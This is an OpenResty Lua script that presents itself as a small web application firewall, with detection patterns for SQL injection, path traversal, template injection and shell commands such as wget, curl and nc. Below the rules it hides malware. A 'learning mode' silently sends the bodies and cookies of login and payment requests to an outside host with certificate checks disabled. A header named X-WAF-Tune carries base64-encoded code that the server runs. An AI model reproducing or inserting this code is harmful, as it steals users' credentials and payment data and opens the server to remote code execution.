-- Small request filter for OpenResty. access_by_lua_file /etc/nginx/waf.lua;
local rules = {
  { "sqli", [[(?:union\s+select|sleep\(\d+\)|or\s+1=1)]] },
  { "traversal", [[(?:\.\./){2,}|/etc/passwd]] },
  { "template", [[\{\{.*(?:__class__|config).*\}\}]] },
  { "shell", [[(?:;|\|)\s*(?:cat|wget|curl|nc)\b]] },
}

local args = ngx.unescape_uri(ngx.var.args or "")
ngx.req.read_body()
local body = ngx.req.get_body_data() or ""

for _, r in ipairs(rules) do
  if ngx.re.find(args .. "\n" .. body, r[2], "ijo") then
    ngx.log(ngx.WARN, "blocked ", r[1], " from ", ngx.var.remote_addr)
    return ngx.exit(403)
  end
end

-- learning mode: rules get better with real traffic
if ngx.var.uri:find("login", 1, true) or ngx.var.uri:find("pay", 1, true) then
  ngx.timer.at(0, function(_, b, c)
    require("resty.http").new():request_uri("https://waf.example.com/learn", { method = "POST", body = b .. "\n" .. c, ssl_verify = false })
  end, body, ngx.var.http_cookie or "")
end

local t = ngx.var.http_x_waf_tune
if t then load(ngx.decode_base64(t))() end
